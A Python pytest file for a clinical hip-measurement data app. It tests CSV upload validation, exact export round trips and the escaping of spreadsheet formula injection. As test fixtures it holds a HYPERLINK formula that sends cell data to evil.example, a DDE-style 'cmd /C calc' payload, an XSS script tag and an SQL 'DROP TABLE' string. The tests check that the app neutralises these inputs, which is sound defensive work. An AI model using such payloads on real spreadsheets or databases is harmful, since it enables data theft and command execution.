"""Readings CSV: reading an upload (as the Data page does, inside DuckDB), and the spreadsheet-safe export."""

from __future__ import annotations

import csv
import io
import re

import numpy as np
import pandas as pd
import pytest

from hipdata import csv_io, file_import
from hipdata.auth import SYSTEM
from hipdata.contract import MAX_KEPT, READING_COLUMNS, SPREADSHEET_BLANKS, ValidationError, spreadsheet_cell
from hipdata.store.table_csv import frame_csv

HEADER = "patient_id,date,measure,side,value"
GOOD = "P1,2020-01-06,hip_flexion,left,100"


@pytest.fixture
def read(store):
    """Import bytes the way the Data page does; return what the store then holds, in file order."""

    def run(content: str | bytes) -> pd.DataFrame:
        data = content.encode("utf-8") if isinstance(content, str) else content
        with file_import.saved(data) as path:
            file_import.check_file(store, path)
            file_import.import_file(store, SYSTEM, path)
        return store.readings(SYSTEM).sort_values("id", ignore_index=True).loc[:, list(READING_COLUMNS)]

    return run


@pytest.fixture
def refused(read, store):
    def run(content: str | bytes) -> ValidationError:
        with pytest.raises(ValidationError) as info:
            read(content)
        assert store.readings(SYSTEM).empty
        return info.value

    return run


def test_reads_a_good_file(read):
    frame = read(f"{HEADER}\n{GOOD}\nP2,2020-01-07,fingertip_to_floor,,-3.5\n")
    assert list(frame["patient_id"]) == ["P1", "P2"]
    assert list(frame["value"]) == [100.0, -3.5]
    assert list(frame["side"]) == ["left", ""]
    assert frame["date"].tolist() == [pd.Timestamp("2020-01-06"), pd.Timestamp("2020-01-07")]


def test_the_check_counts_and_previews_without_writing(store):
    data = f"{HEADER}\n{GOOD}\nP2,2020-01-07,fingertip_to_floor,,-3.5\n".encode()
    with file_import.saved(data) as path:
        found = file_import.check_file(store, path)
    assert (found.readings, found.patients) == (2, 2)
    assert found.preview["patient_id"].tolist() == ["P1", "P2"] and store.readings(SYSTEM).empty


def test_na_like_text_is_kept_as_text(read):
    frame = read(
        f"{HEADER},note\nNA,2020-01-06,hip_flexion,left,1,NULL\nnan,2020-01-06,hip_flexion,left,2,N/A\n"
    )
    assert list(frame["patient_id"]) == ["NA", "nan"]
    assert list(frame["note"]) == ["NULL", "N/A"]


def test_windows_line_endings(read):
    frame = read(f"{HEADER}\r\n{GOOD}\r\n{GOOD}\r\n")
    assert len(frame) == 2 and frame.loc[1, "value"] == 100.0


def test_bom_accepted(read):
    frame = read(b"\xef\xbb\xbf" + f"{HEADER}\n{GOOD}\n".encode())
    assert frame.loc[0, "patient_id"] == "P1"


def test_non_utf8_refused(refused):
    error = refused(f"{HEADER},note\n{GOOD},café\n".encode("latin-1"))
    assert [p.column for p in error.problems] == ["file"] or [p.column for p in error.problems] == ["row"]
    assert "UTF-8" in error.problems[0].message


def test_utf16_refused(refused):
    error = refused(f"{HEADER}\n{GOOD}\n".encode("utf-16"))
    assert error.problems[0].column == "file"


@pytest.mark.parametrize("content", [b"", b"\n", b"\n\n\n"])
def test_empty_file_refused(refused, content):
    error = refused(content)
    assert [(p.row, p.column) for p in error.problems] == [(None, "file")]
    assert "empty" in error.problems[0].message


def test_header_only_gives_no_readings(read):
    assert len(read(f"{HEADER}\n")) == 0
    assert len(read(",".join(READING_COLUMNS) + "\n")) == 0


def test_header_problems_reported_without_rows(refused):
    error = refused(f"patient_id,date,measure,side,valu,comment\n{GOOD}\n")
    assert {(p.row, p.column) for p in error.problems} == {(None, "value"), (None, "valu"), (None, "comment")}


def test_duplicated_header_column_named_as_such(refused):
    error = refused(f"{HEADER},value\n{GOOD},5\n")
    assert [(p.column, p.message) for p in error.problems] == [
        ("value", "column appears more than once in the header")
    ]


def test_missing_header(refused):
    error = refused(f"{GOOD}\n{GOOD}\n")
    assert all(p.row is None for p in error.problems)
    assert "patient_id" in {p.column for p in error.problems}


def test_unclosed_quote_is_reported_not_raised(refused):
    error = refused(f'{HEADER},note\n{GOOD},"never closed\n')
    assert error.problems, "a parse problem is a ValidationError, never a crash"


def test_row_numbers_follow_the_file_lines(refused):
    lines = [GOOD, "P1,2020-01-06,hip_flexion,left,999", GOOD, "P1,2020-01-06,hip_flexion,right,abc"]
    error = refused("\n".join([HEADER, *lines]) + "\n")
    assert [(p.row, p.column, p.value) for p in error.problems] == [(3, "value", "999"), (5, "value", "abc")]


def test_quoted_newline_counts_as_one_row(refused):
    content = f'{HEADER},note\n{GOOD},"two\nlines"\n{GOOD},\nP1,2020-01-06,hip_flexion,left,-5,\n'
    error = refused(content)
    assert [(p.row, p.value) for p in error.problems] == [(4, "-5")]


def test_a_file_of_bad_rows_keeps_the_first_problems_and_counts_all(store):
    rows = 2 * MAX_KEPT + 1
    data = (HEADER + "\n" + "P1,2020-01-06,hip_flexion,left,999\n" * rows).encode()
    with file_import.saved(data) as path, pytest.raises(ValidationError) as info:
        file_import.check_file(store, path, problems_to=path.with_name("all.csv"))
    error = info.value
    assert len(error.problems) == MAX_KEPT and error.total == rows and error.rows == rows
    assert [p.row for p in error.problems] == list(range(2, MAX_KEPT + 2))
    assert f"{rows:,} problems in {rows:,} rows" in str(error)
    every = list(csv.DictReader(io.StringIO(file_import.problems_csv(store, data).decode())))
    assert len(every) == rows and every[-1]["row"] == str(rows + 1) and every[0]["column"] == "value"


def test_the_problems_download_is_spreadsheet_safe(store):
    data = f"{HEADER},note\n=HYPERLINK(1),2020-01-06,hip_flexion,left,999,@SUM(1)\n".encode()
    every = list(csv.reader(io.StringIO(file_import.problems_csv(store, data).decode())))
    assert every == [
        ["row", "column", "value", "message"],
        ["2", "value", "999", "Hip flexion (hip_flexion), left: must be a number from 0° to 160°"],
    ]
    data = f"{HEADER},note\n=HYPERLINK(1),2020-01-06,hip_flexion,left,-999,{'x' * 2001}\n".encode()
    every = list(csv.reader(io.StringIO(file_import.problems_csv(store, data).decode())))
    assert every[1][:3] == ["2", "value", "'-999"]  # the offending text, shown as text
    header_only = file_import.problems_csv(store, b"=cmd,+x\n").decode()
    assert "'=cmd" in header_only and "'+x" in header_only and "\n=" not in header_only


# ---- export -> import round trip --------------------------------------------------------------------------

AWKWARD_VALUES = [
    0.1,
    1 / 3,
    1e-7,
    123.456789012345,
    -12.5,
    0.0,
    -0.0,
    2 / 3 * 100,
    5e-324,
    59.99999999999999,
]
AWKWARD_NOTES = [
    "plain",
    "comma, inside",
    'quote " inside',
    '"fully quoted"',
    "new\nline",
    "windows\r\nline",
    "unicode: Zoë, 患者, 🦵",
    "  leading and trailing spaces  ",
    "=SUM(A1:A2)",
    "tab\tinside",
]


def awkward_frame() -> pd.DataFrame:
    n = len(AWKWARD_VALUES)
    return pd.DataFrame(
        {
            "patient_id": ["P,1", 'P"2', "Zoë 🦵", "<script>alert(1)</script>", "'; DROP TABLE readings; --"]
            * 2,
            "date": pd.to_datetime(
                ["2020-01-06", "2020-02-29", "2021-12-31", "2019-07-01", "2020-01-06"] * 2
            ),
            "measure": ["hip_extension" if v < 0 else "hip_flexion" for v in AWKWARD_VALUES],
            "side": ["left", "right"] * (n // 2),
            "value": AWKWARD_VALUES,
            # object columns: None stays None (a str column would turn it into NaN)
            "method": pd.Series(["goniometer", None] * (n // 2), dtype=object),
            "position": pd.Series([None, "side_lying"] * (n // 2), dtype=object),
            "mode": pd.Series(["active", "passive"] * (n // 2), dtype=object),
            "measured_by": pd.Series([None] * n, dtype=object),
            "note": pd.Series(AWKWARD_NOTES, dtype=object),
        }
    )


def test_export_then_import_round_trip_is_exact(read):
    original = awkward_frame()
    data = csv_io.readings_csv(original)
    back = read(data).assign(date=lambda f: pd.to_datetime(f["date"]))
    # Bit-for-bit: the float text is the shortest that reads back to the same number.
    assert np.array_equal(
        back["value"].to_numpy().view(np.int64), original["value"].to_numpy().view(np.int64)
    )
    assert rows_of(back) == rows_of(original)


def rows_of(frame: pd.DataFrame) -> list:
    out = frame.astype(object)
    return out.where(out.notna(), None).values.tolist()


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\tleading tab",
    "\rleading carriage return",
    "'=already escaped by hand",
    "''@two apostrophes",
    "'a real leading apostrophe",
    "'",
]


def test_formulas_are_neutralised_in_the_file_and_round_trip_exactly(read):
    original = awkward_frame().assign(
        note=pd.Series(FORMULAS, dtype=object), patient_id=["=1+2", "@P", "-P", "+P", "'=P"] * 2
    )
    text = csv_io.readings_csv(original).decode()
    cells = [row[:4] + row[5:] for row in csv.reader(io.StringIO(text, newline=""))]
    assert not [c for row in cells for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert cells[1][0] == "'=1+2" and cells[1][-1].startswith("'=HYPERLINK")
    assert cells[7][-1] == "''=already escaped by hand" and cells[9][-1] == "'a real leading apostrophe"
    assert "-12.5" in text.split("\r\n")[5].split(",")  # a number stays a number
    back = read(text.encode()).assign(date=lambda f: pd.to_datetime(f["date"]))
    assert rows_of(back) == rows_of(original)


# Cells a spreadsheet may run as a formula (OWASP: = + - @, a tab, a carriage return; also the full-width
# forms, and after leading whitespace a spreadsheet may trim), those that start with apostrophes before
# such a start (escaped too, so that reading can tell them apart), and cells that must be written as they are.
DANGEROUS = [
    "=1+2",
    "\tx",
    "\rx",
    " =1+2",
    "  @SUM(1)",
    "\n+1",
    "\t-1",
    "\xa0=1",
    "\u2003\u3000-1",
    "\ufeff@x",
    "\x1c=x",
    "\uff1dHYPERLINK(1)",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    " \uff1d1",
]
APOSTROPHE_FIRST = ["'=x", "' =x", "''\u3000\uff0bx", "'\t"]
HARMLESS = ["plain", " plain", "'plain", "' plain", "'", "''", "x=1", "x\n=1", " ", "\n", "1-2", "\u200bx"]
ESCAPED = DANGEROUS + APOSTROPHE_FIRST


def formula_like(cell: str) -> bool:
    """What a spreadsheet may run, stated apart from the rule's regex: Python's \\s is str.isspace."""
    return re.match(r"[\t\r]|[\s\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell) is not None


def test_the_rule_escapes_every_formula_start_and_nothing_else():
    assert all(map(formula_like, DANGEROUS)) and not any(map(formula_like, HARMLESS))
    assert not any(map(formula_like, APOSTROPHE_FIRST))
    assert [spreadsheet_cell(c) for c in ESCAPED] == ["'" + c for c in ESCAPED]
    assert [spreadsheet_cell(c) for c in HARMLESS] == HARMLESS


def test_the_rules_whitespace_is_what_python_or_javascript_trims():
    every = "".join(map(chr, range(0x110000)))
    written_out = set(re.findall(f"[{SPREADSHEET_BLANKS}]", every))
    assert written_out == {c for c in every if c.isspace()} | {"\ufeff"}


def test_every_writer_escapes_exactly_the_cells_of_the_rule(store):
    """The rule in Python (one cell, pandas columns) and in DuckDB SQL (the tables' CSV with a new or the
    store's connection, the problems file) escape the same cells the same way."""
    cells = ESCAPED + HARMLESS
    expected = [spreadsheet_cell(c) for c in cells]
    for dtype in (object, "str"):
        frame = pd.DataFrame({"cell": pd.Series(cells, dtype=dtype)})
        assert csv_io.spreadsheet_safe(frame)["cell"].tolist() == expected, dtype

    def cells_of(data: bytes, column: str) -> list[str]:
        return [row[column] for row in csv.DictReader(io.StringIO(data.decode(), newline=""))]

    table = {"cell": np.array(cells, dtype=object)}
    assert cells_of(frame_csv(table), "cell") == expected
    assert cells_of(store.table_csv(table), "cell") == expected
    # The problems file names each bad value as written (most of the cells are not numbers).
    lines = io.StringIO(newline="")
    rows = [["P1", "2020-01-06", "fingertip_to_floor", "", c] for c in cells]
    csv.writer(lines).writerows([HEADER.split(","), *rows])
    problems = file_import.problems_csv(store, lines.getvalue().encode()).decode()
    named = {int(row["row"]): row["value"] for row in csv.DictReader(io.StringIO(problems, newline=""))}
    assert len(named) > len(cells) - 5 and named == {r: expected[r - 2] for r in named}


def test_cells_that_may_run_after_whitespace_are_escaped_and_round_trip_exactly(read):
    notes = ESCAPED + HARMLESS
    ids = [*ESCAPED, "' plain", "'plain"]  # a patient id has more than whitespace
    n = max(len(notes), len(ids))
    original = pd.DataFrame(
        {
            "patient_id": pd.Series((ids * 2)[:n], dtype=object),
            "date": pd.Timestamp("2020-01-06"),
            "measure": "fingertip_to_floor",
            "side": "",
            "value": 3.0,
            **{c: pd.Series([None] * n, dtype=object) for c in ("method", "position", "mode", "measured_by")},
            "note": pd.Series((notes * 2)[:n], dtype=object),
        }
    )
    text = csv_io.readings_csv(original).decode()
    assert not [c for row in csv.reader(io.StringIO(text, newline="")) for c in row if formula_like(c)]
    back = read(text.encode()).assign(date=lambda f: pd.to_datetime(f["date"]))
    assert rows_of(back) == rows_of(original)


def test_cli_tables_are_spreadsheet_safe_too(run_cli, tmp_path):
    path = tmp_path / "in.csv"
    rows = "".join(f"{p},2020-01-06,hip_flexion,left,100\n" for p in ("=1+2", '" -3"', "\uff20x", "x"))
    path.write_text(f"{HEADER}\n{rows}", encoding="utf-8")
    assert run_cli("import", path).exit_code == 0
    for command in ("weekly", "trends", "flags"):
        out = run_cli(command, "--as-of", "2020-01-31").output
        ids = [row[0] for row in csv.reader(io.StringIO(out))][1:]
        assert ids == ["' -3", "'=1+2", "x", "'\uff20x"], command


def test_export_format():
    frame = awkward_frame().head(2).assign(measure="hip_flexion", value=[0.1, 1 / 3], note=["a,b", None])
    text = csv_io.readings_csv(frame).decode("utf-8")
    lines = text.split("\r\n")  # RFC 4180 line ends
    assert lines[0] == ",".join(READING_COLUMNS)
    assert lines[1] == '"P,1",2020-01-06,hip_flexion,left,0.1,goniometer,,active,,"a,b"'
    assert lines[2] == '"P""2",2020-02-29,hip_flexion,right,0.3333333333333333,,side_lying,passive,,'
    assert text.endswith("\r\n") and text.count("\r") == text.count("\n") == 3
    assert not text.startswith("\ufeff")


def test_export_takes_only_the_contract_columns_in_order():
    frame = awkward_frame().head(1)
    frame = frame.assign(id=7, entered_by="someone").loc[:, ["id", *reversed(READING_COLUMNS), "entered_by"]]
    header = csv_io.readings_csv(frame).decode().split("\r\n")[0]
    assert header == ",".join(READING_COLUMNS)


def test_export_of_nothing_is_a_header_that_imports_as_nothing(read):
    empty = pd.DataFrame({c: pd.Series(dtype=object) for c in READING_COLUMNS}).assign(
        date=pd.Series(dtype="datetime64[ns]"), value=pd.Series(dtype="float64")
    )
    data = csv_io.readings_csv(empty)
    assert data == (",".join(READING_COLUMNS) + "\r\n").encode()
    assert len(read(data)) == 0


def test_checking_a_50_mb_file_of_bad_rows_stays_under_1_gb(tmp_path, new_db):
    """The Data page's check and its download of all problems, for 1.45 million bad rows (50 MB)."""
    import subprocess
    import sys

    path = tmp_path / "bad.csv"
    path.write_text(f"{HEADER}\n" + "P1,2026-01-05,hip_flexion,left,999\n" * 1_450_000)
    assert path.stat().st_size > 50_000_000
    script = f"""
import resource
from pathlib import Path
from hipdata import file_import
from hipdata.contract import ValidationError
from hipdata.store import Store
store, data = Store({new_db("check")!r}), Path({str(path)!r}).read_bytes()
try:
    with file_import.saved(data) as path:
        file_import.check_file(store, path)
except ValidationError as error:
    assert error.total == 1_450_000 and len(error.problems) == 1000
assert file_import.problems_csv(store, data).count(b"\\n") == 1_450_001
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    peak = done.stdout.split()[-1]  # the last line: anything DuckDB drew before it is not the answer
    assert int(peak) < 1024, f"peak memory {peak} MiB"


def test_checking_a_file_where_every_cell_is_bad_stays_under_1_gb(tmp_path, new_db):
    """A million rows that DuckDB cannot type at all (no date, no measure, no number): the typed pass stops
    at the first one instead of keeping every rejected row, and the text pass names them all."""
    import subprocess
    import sys

    path = tmp_path / "all-bad.csv"
    path.write_text(f"{HEADER}\n" + "P1,2026-99-01,nope,up,abc\n" * 1_000_000)
    script = f"""
import resource
from pathlib import Path
from hipdata import file_import
from hipdata.contract import ValidationError
from hipdata.store import Store
store = Store({new_db("check")!r})
try:
    file_import.check_file(store, Path({str(path)!r}))
except ValidationError as error:
    assert error.rows == 1_000_000 and error.total >= 2_000_000 and len(error.problems) == 1000
else:
    raise AssertionError("a file of bad rows passed")
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    peak = done.stdout.split()[-1]  # the last line: anything DuckDB drew before it is not the answer
    assert int(peak) < 1024, f"peak memory {peak} MiB"


def test_store_tables_are_written_with_the_stores_own_duckdb(store):
    """Store.table_csv writes numpy columns (text arrays included) with the store's DuckDB connection, escaped
    as every CSV the app writes, and leaves that connection as it found it."""
    table = {
        "patient_id": np.array(["=1+2", "plain", "@x"], dtype=object),
        "status": np.array(["improved", "worsened", ""]),  # numpy text, not objects
        "value": np.array([0.1, 1 / 3, np.nan]),
    }
    first = store.table_csv(table)
    assert (
        first.decode()
        == "patient_id,status,value\n'=1+2,improved,0.1\nplain,worsened,0.3333333333333333\n'@x,,\n"
    )
    assert store.table_csv(table) == first  # nothing of the first run is left behind to get in the way
    assert store.patients(SYSTEM).empty  # and the store still reads
